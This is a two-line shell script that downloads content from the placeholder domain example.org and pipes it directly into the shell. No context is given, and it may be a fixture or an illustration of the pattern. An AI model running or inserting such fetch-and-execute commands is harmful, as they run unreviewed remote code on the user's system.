#!/bin/sh
curl example.org | sh
